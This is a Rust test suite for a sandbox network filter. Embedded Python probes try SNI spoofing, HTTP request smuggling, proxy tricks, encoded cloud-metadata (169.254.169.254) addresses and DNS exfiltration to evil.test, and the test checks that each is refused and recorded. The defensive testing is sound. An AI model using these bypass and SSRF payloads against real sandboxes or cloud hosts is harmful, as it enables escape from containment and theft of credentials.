//! Ways out of a filtered box, all in one session: each is refused with its reason, and the record has exactly these.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;
use common::network::{SERVERS, in_a_network};
use common::{Feature, TestBox, missing};
use std::net::TcpListener;
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr, UnixListener};

/// What attacks and their allowed twins are made of.
const TOOLS: &str = r#"
import socket,struct,sys
LOOPBACK,ABSTRACT=int(sys.argv[1]),sys.argv[2]
def hello(sni,record=1<<14,more=b''):
    ext=b''
    if sni:
        n=sni.encode(); ext+=struct.pack('>HHHBH',0,len(n)+5,len(n)+3,0,len(n))+n
    ext+=more+b'\0\x2b\0\3\2\3\4'
    body=b'\3\3'+b'\7'*32+b'\0'+b'\0\2\x13\1'+b'\1\0'+struct.pack('>H',len(ext))+ext
    m=b'\1'+struct.pack('>I',len(body))[1:]+body
    return b''.join(b'\x16\3\1'+struct.pack('>H',len(m[i:i+record]))+m[i:i+record] for i in range(0,len(m),record))
def read(s):
    got=b''
    try:
        while True:
            c=s.recv(65536)
            if not c: break
            got+=c
    except ConnectionResetError: return 'reset' if not got else word(got)
    except TimeoutError: return 'hangs'
    return word(got)
def word(got):
    if got[:1]==b'\x15': return 'alert %d'%got[6]
    if got.startswith(b'HTTP/1.1 '): return got[9:12].decode()
    if got.startswith(b'SSH-2.0-agentbox'): return 'ssh'
    return 'closed' if not got else repr(got[:40])
def tcp(host,port,data=b''):
    try: s=socket.create_connection((host,port),10)
    except socket.gaierror: return 'no name'
    except ConnectionRefusedError: return 'refused'
    s.settimeout(15); s.sendall(data)
    return read(s)
def proxy(line): return tcp('127.0.0.1',1023,line.encode()+b' HTTP/1.1\r\nHost: x.test\r\n\r\n')
def http(text): return tcp('granted.test',80,text.replace('\n','\r\n').encode())
def error(f):
    try: f(); return 'done'
    except OSError as e: return type(e).__name__
def udp(addr,family=socket.AF_INET):
    s=socket.socket(family,socket.SOCK_DGRAM); s.settimeout(10); s.connect(addr); s.send(b'x'); s.recv(9)
def unix():
    s=socket.socket(socket.AF_UNIX); s.connect('\0'+ABSTRACT)
"#;

/// `NAME|OUTCOME` for each attack, in their order.
const ATTACKS: &str = r#"
for name,attack in [
 ('sni of another',lambda: tcp('granted.test',443,hello('evil.test'))),
 ('sni in many records',lambda: tcp('granted.test',443,hello('evil.test',3))),
 ('encrypted hello, other outer name',lambda: tcp('granted.test',443,hello('outer.test',more=b'\xfe\x0d\0\4\0\1\2\3'))),
 ('no sni',lambda: tcp('granted.test',443,hello(None))),
 ('no tls',lambda: tcp('granted.test',443,b'SSH-2.0-x\r\n')),
 ('host of another',lambda: http('GET / HTTP/1.1\nHost: evil.test\n\n')),
 ('two hosts',lambda: http('GET / HTTP/1.1\nHost: granted.test\nHost: evil.test\n\n')),
 ('absolute form against host',lambda: http('GET http://evil.test/ HTTP/1.1\nHost: granted.test\n\n')),
 ('http 0.9',lambda: http('GET /\n')),
 ('two lengths',lambda: http('POST / HTTP/1.1\nHost: granted.test\nContent-Length: 4\nTransfer-Encoding: chunked\n\n0\n\n')),
 ('folded header',lambda: http('GET / HTTP/1.1\nHost: granted.test\nX: a\n b\n\n')),
 ('space before the colon',lambda: http('POST / HTTP/1.1\nHost: granted.test\nTransfer-Encoding : chunked\n\n')),
 ('upgrade to h2c',lambda: http('GET / HTTP/1.1\nHost: granted.test\nConnection: Upgrade, HTTP2-Settings\nUpgrade: h2c\nHTTP2-Settings: AAMAAABkAAQAAP__\n\n')),
 ('upgrade to something else',lambda: http('GET / HTTP/1.1\nHost: granted.test\nConnection: Upgrade\nUpgrade: tunnel\n\n')),
 ('h2c with prior knowledge',lambda: http('PRI * HTTP/2.0\n\nSM\n\n')),
 ('connect relay',lambda: http('CONNECT evil.test:443 HTTP/1.1\nHost: granted.test\n\n')),
 ('proxy, not granted',lambda: proxy('CONNECT evil.test:443')),
 ('proxy, metadata',lambda: proxy('CONNECT 169.254.169.254:80')),
 ('proxy, decimal',lambda: proxy('CONNECT 2852039166:80')),
 ('proxy, octal',lambda: proxy('CONNECT 0251.0376.0251.0376:80')),
 ('proxy, mapped',lambda: proxy('CONNECT [::ffff:169.254.169.254]:80')),
 ('proxy, user info',lambda: proxy('GET http://granted.test@evil.test/')),
 ('proxy, host loopback',lambda: proxy('CONNECT 127.0.0.1:%d'%LOOPBACK)),
 ('proxy, trailing dot',lambda: proxy('CONNECT evil.test.:443')),
 ('raw address',lambda: tcp('192.0.2.7',443,hello('granted.test'))),
 ('raw ipv6',lambda: tcp('2001:db8::7',80,b'GET / HTTP/1.1\r\nHost: granted.test\r\n\r\n')),
 ('raw private, ssh',lambda: tcp('10.0.0.7',22)),
 ('metadata',lambda: tcp('169.254.169.254',80,b'GET / HTTP/1.1\r\nHost: granted.test\r\n\r\n')),
 ('mapped metadata',lambda: tcp('::ffff:169.254.169.254',80,b'GET / HTTP/1.1\r\nHost: x\r\n\r\n')),
 ('decimal metadata',lambda: tcp('2852039166',80,b'GET / HTTP/1.1\r\nHost: x\r\n\r\n')),
 ('octal metadata',lambda: tcp('0251.0376.0251.0376',80,b'GET / HTTP/1.1\r\nHost: x\r\n\r\n')),
 ('hexadecimal metadata',lambda: tcp('0xa9fea9fe',80,b'GET / HTTP/1.1\r\nHost: x\r\n\r\n')),
 ('raw address, high port',lambda: tcp('192.0.2.7',8443)),
 ('host loopback',lambda: tcp('127.0.0.1',LOOPBACK)),
 ('secret in a name',lambda: tcp('c2vjcmv0.evil.test',443)),
 ('metadata by name',lambda: tcp('metadata.google.internal',80)),
 ('udp',lambda: error(lambda: udp(('192.0.2.7',443)))),
 ('udp over ipv6',lambda: error(lambda: udp(('2001:db8::7',443),socket.AF_INET6))),
 ('ping',lambda: error(lambda: socket.socket(socket.AF_INET,socket.SOCK_DGRAM,1).sendto(b'\10\0\0\0\0\0\0\0',('192.0.2.7',0)))),
 ('raw socket',lambda: error(lambda: socket.socket(socket.AF_INET,socket.SOCK_RAW,1))),
 ('abstract socket',lambda: error(unix)),
]:
    print(name+'|'+str(attack()),flush=True)
"#;

/// The wish to speak HTTP/2 is not passed on, as a server may ignore it; what is left is a request like any other.
const H2C: &str = "upgrade to h2c";

/// Whom, on which port (0: whichever), and why.
type Recorded = (&'static str, u16, &'static str);

/// Attack, what it sees, and what the record says: whom, port and why; none where the kernel refuses by itself.
const WANT: &[(&str, &str, Option<Recorded>)] = &[
    (
        "sni of another",
        "alert 112",
        Some(("granted.test", 443, "the TLS client asked for evil.test")),
    ),
    (
        "sni in many records",
        "alert 112",
        Some(("granted.test", 443, "the TLS client asked for evil.test")),
    ),
    (
        "encrypted hello, other outer name",
        "alert 112",
        Some(("granted.test", 443, "the TLS client asked for outer.test")),
    ),
    (
        "no sni",
        "alert 112",
        Some(("granted.test", 443, "the TLS client named no server")),
    ),
    (
        "no tls",
        "reset",
        Some(("granted.test", 443, "not TLS on port 443")),
    ),
    (
        "host of another",
        "403",
        Some(("granted.test", 80, "the HTTP request is for evil.test")),
    ),
    (
        "two hosts",
        "403",
        Some(("granted.test", 80, "more than one Host field")),
    ),
    (
        "absolute form against host",
        "403",
        Some(("granted.test", 80, "the URL and the Host field differ")),
    ),
    (
        "http 0.9",
        "403",
        Some(("granted.test", 80, "not a plain HTTP request: ")),
    ),
    (
        "two lengths",
        "403",
        Some(("granted.test", 80, "two lengths of the body")),
    ),
    (
        "folded header",
        "403",
        Some(("granted.test", 80, "not a plain HTTP request: ")),
    ),
    (
        "space before the colon",
        "403",
        Some(("granted.test", 80, "not a plain HTTP request: ")),
    ),
    (
        H2C,
        "502",
        Some(("granted.test", 80, "the name cannot be resolved")),
    ),
    (
        "upgrade to something else",
        "403",
        Some((
            "granted.test",
            80,
            "the HTTP request asks for another protocol",
        )),
    ),
    (
        "h2c with prior knowledge",
        "403",
        Some(("granted.test", 80, "HTTP/2 without TLS")),
    ),
    (
        "connect relay",
        "403",
        Some((
            "granted.test",
            80,
            "CONNECT to a server that is no proxy of this box",
        )),
    ),
    (
        "proxy, not granted",
        "403",
        Some(("evil.test", 443, "no rule grants it")),
    ),
    (
        "proxy, metadata",
        "403",
        Some(("169.254.169.254", 80, "no rule grants it")),
    ),
    (
        "proxy, decimal",
        "403",
        Some((
            "2852039166",
            0,
            "not a name or an address in its usual form",
        )),
    ),
    (
        "proxy, octal",
        "403",
        Some((
            "0251.0376.0251.0376",
            0,
            "not a name or an address in its usual form",
        )),
    ),
    (
        "proxy, mapped",
        "403",
        Some(("169.254.169.254", 80, "no rule grants it")),
    ),
    (
        "proxy, user info",
        "403",
        Some(("evil.test", 0, "not a name or an address in its usual form")),
    ),
    (
        "proxy, host loopback",
        "403",
        Some(("127.0.0.1", 0, "no rule grants it")),
    ),
    (
        "proxy, trailing dot",
        "403",
        Some(("evil.test", 443, "no rule grants it")),
    ),
    (
        "raw address",
        "alert 49",
        Some(("192.0.2.7", 443, "no rule grants it")),
    ),
    (
        "raw ipv6",
        "403",
        Some(("2001:db8::7", 80, "no rule grants it")),
    ),
    (
        "raw private, ssh",
        "ssh",
        Some(("10.0.0.7", 22, "no rule grants it")),
    ),
    (
        "metadata",
        "403",
        Some(("169.254.169.254", 80, "no rule grants it")),
    ),
    (
        "mapped metadata",
        "403",
        Some(("169.254.169.254", 80, "no rule grants it")),
    ),
    (
        "decimal metadata",
        "403",
        Some(("169.254.169.254", 80, "no rule grants it")),
    ),
    (
        "octal metadata",
        "403",
        Some(("169.254.169.254", 80, "no rule grants it")),
    ),
    (
        "hexadecimal metadata",
        "403",
        Some(("169.254.169.254", 80, "no rule grants it")),
    ),
    ("raw address, high port", "refused", None),
    ("host loopback", "refused", None),
    (
        "secret in a name",
        "no name",
        Some(("c2vjcmv0.evil.test", 0, "no rule grants it")),
    ),
    (
        "metadata by name",
        "no name",
        Some(("metadata.google.internal", 0, "no rule grants it")),
    ),
    ("udp", "ConnectionRefusedError", None),
    ("udp over ipv6", "ConnectionRefusedError", None),
    ("ping", "PermissionError", None),
    ("raw socket", "PermissionError", None),
    ("abstract socket", "ConnectionRefusedError", None),
];

#[test]
fn every_way_out_is_refused_and_recorded() {
    if missing(Feature::Userns) || missing(Feature::Tool("python3")) {
        return;
    }
    // What they would reach: a service on the host's loopback, and one without a file.
    let service = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = service.local_addr().unwrap().port();
    let name = format!("agentbox-test-{port}");
    let abstract_name = SocketAddr::from_abstract_name(&name).unwrap();
    let _listener = UnixListener::bind_addr(&abstract_name).unwrap();
    let b = TestBox::new()
        .net("filtered")
        .option("--allow=granted.test+private");
    let attacks = format!("{TOOLS}{ATTACKS}");
    let ran = b.run(["python3", "-c", &attacks, &port.to_string(), &name]);
    let text = ran.ok();
    let seen: Vec<(&str, &str)> = text.lines().filter_map(|l| l.split_once('|')).collect();
    let dir = b.home().join(".local/state/agentbox/sessions");
    let mut sessions = std::fs::read_dir(dir).unwrap().flatten();
    let record = sessions
        .find_map(|entry| std::fs::read_to_string(entry.path().join("events.jsonl")).ok())
        .unwrap();
    let recorded: Vec<serde_json::Value> = record
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap())
        .filter(|event| event["event"] == "unreached")
        .collect();
    let told: Vec<String> = recorded
        .iter()
        .map(|e| format!("{} {} {}", e["to"], e["port"], e["why"]))
        .collect();
    let mut events = recorded.iter();
    for (index, (attack, outcome, record)) in WANT.iter().enumerate() {
        assert_eq!(seen.get(index), Some(&(*attack, *outcome)), "{told:#?}");
        let Some((to, at, why)) = record else {
            continue;
        };
        let event = events
            .next()
            .unwrap_or_else(|| panic!("{attack}: not recorded: {told:#?}"));
        let row = format!("{attack}: {event} in {told:#?}");
        assert!(event["to"].as_str().unwrap().contains(to), "{row}");
        assert!(*at == 0 || event["port"] == *at, "{row}");
        assert!(event["why"].as_str().unwrap().contains(why), "{row}");
        assert_eq!(event["policy"], *attack != H2C, "{row}");
        if *outcome == "no name" {
            // Each program asks for both families.
            assert_eq!(
                events.next().map(|twin| &twin["to"]),
                Some(&event["to"]),
                "{row}"
            );
        }
    }
    assert_eq!(events.next(), None, "nothing else: {told:#?}");
    assert_eq!(seen.len(), WANT.len(), "{ran:?}");
}

/// The same ways to what is granted, in a network where somebody answers: each must be open.
const TWINS: &str = r#"
def proxied(target,data=b''):
    s=socket.create_connection(('127.0.0.1',1023),10); s.settimeout(15)
    s.sendall(b'CONNECT '+target.encode()+b' HTTP/1.1\r\nHost: x.test\r\n\r\n')
    head=b''
    while not head.endswith(b'\r\n\r\n'):
        c=s.recv(1)
        if not c: return 'closed'
        head+=c
    if head[9:12]!=b'200': return head[9:12].decode()
    s.sendall(data); return read(s)
get=b'GET / HTTP/1.1\r\nHost: granted.test\r\nConnection: close\r\n\r\n'
def udp_own():
    a=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); a.bind(('127.0.0.1',5000)); a.settimeout(10)
    b=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); b.sendto(b'x',('127.0.0.1',5000)); return a.recv(9)
def unix_own():
    a=socket.socket(socket.AF_UNIX); a.bind('\0own'); a.listen(); socket.socket(socket.AF_UNIX).connect('\0own')
for name,way in [
 ('sni',lambda: tcp('granted.test',443,hello('granted.test'))),
 ('sni in many records',lambda: tcp('granted.test',443,hello('granted.test',3))),
 ('encrypted hello, granted outer name',lambda: tcp('granted.test',443,hello('granted.test',more=b'\xfe\x0d\0\4\0\1\2\3'))),
 ('no sni, marked',lambda: tcp('nosni.test',443,hello(None))),
 ('no tls, marked',lambda: tcp('plain.test',443,b'SSH-2.0-x\r\n')),
 ('host',lambda: tcp('granted.test',80,get)),
 ('absolute form of the host',lambda: http('GET http://granted.test/ HTTP/1.1\nHost: granted.test\nConnection: close\n\n')),
 ('one length',lambda: http('POST / HTTP/1.1\nHost: granted.test\nConnection: close\nContent-Length: 0\n\n')),
 ('connect relay, marked',lambda: tcp('plain.test',80,b'CONNECT evil.test:443 HTTP/1.1\r\n\r\n')),
 ('proxy',lambda: proxied('granted.test:443',hello('granted.test'))),
 ('proxy, trailing dot',lambda: proxied('granted.test.:443',hello('granted.test'))),
 ('proxy, metadata',lambda: proxied('169.254.169.254:80',get)),
 ('proxy, mapped',lambda: proxied('[::ffff:169.254.169.254]:80',get)),
 ('proxy, host loopback',lambda: proxied('127.0.0.1:8080',get)),
 ('raw address',lambda: tcp('10.77.0.1',443,hello('whichever.test'))),
 ('raw ipv6',lambda: tcp('fd77::1',80,get)),
 ('metadata',lambda: tcp('169.254.169.254',80,get)),
 ('mapped metadata',lambda: tcp('::ffff:169.254.169.254',80,get)),
 ('decimal metadata',lambda: tcp('2852039166',80,get)),
 ('octal metadata',lambda: tcp('0251.0376.0251.0376',80,get)),
 ('hexadecimal metadata',lambda: tcp('0xa9fea9fe',80,get)),
 ('raw address, high port',lambda: tcp('10.77.0.1',8443,get)),
 ('host loopback',lambda: tcp('127.0.0.1',8080,get)),
 ('a name below',lambda: tcp('c2vjcmv0.below.test',443,hello('c2vjcmv0.below.test'))),
]:
    print(name+'|'+str(way()),flush=True)
print('udp|'+error(udp_own)); print('abstract socket|'+error(unix_own))
"#;

#[test]
fn the_same_ways_are_open_to_what_is_granted() {
    if missing(Feature::Root)
        || ["unshare", "ip", "python3"]
            .iter()
            .any(|tool| missing(Feature::Tool(tool)))
    {
        return;
    }
    let b = TestBox::new()
        .net("filtered")
        .file("servers.py", SERVERS)
        .file("resolv.conf", "nameserver 127.0.0.2\n")
        .file(
            "net.toml",
            "extends = [\"shell\"]\n[network]\nhost-ports = [8080]\nallow = [\"granted.test+private\", \"nosni.test+private+no-sni\",\
             \"plain.test:80,443+private+plain\", \"*.below.test+private\", \"10.77.0.0/24:443,8443\", \"[fd77::]/64:80\",\
             \"169.254.169.254:80\"]\n[network.hosts]\n\"granted.test\" = \"10.77.0.1\"\n\"nosni.test\" = \"10.77.0.1\"\n\
             \"plain.test\" = \"10.77.0.1\"\n\"c2vjcmv0.below.test\" = \"10.77.0.1\"\n",
        );
    let profile = b.root().join("net.toml");
    let b = b
        .option("-p")
        .option(profile.to_str().unwrap())
        .file("{ws}/twins.py", format!("{TOOLS}{TWINS}"));
    let ran = in_a_network(
        &b,
        "ip addr add 10.77.0.1/32 dev lo && ip addr add 169.254.169.254/32 dev lo && ip -6 addr add fd77::1/128 dev lo nodad || exit 1\n\
         servers 'web 10.77.0.1@443 a' 'web 10.77.0.1@80 b' 'web 10.77.0.1@8443 c' 'web fd77::1@80 d' 'web 169.254.169.254@80 e' \
         'web 127.0.0.1@8080 f'",
        ":",
        "python3 twins.py 0 x",
    );
    let text = ran.ok();
    for line in text.lines() {
        let (_, outcome) = line.split_once('|').unwrap();
        assert!(["200", "done"].contains(&outcome), "{line}: {ran:?}");
    }
    assert_eq!(text.lines().count(), 26, "{ran:?}");
    assert!(!ran.complaint().contains("refused"), "{ran:?}");
}
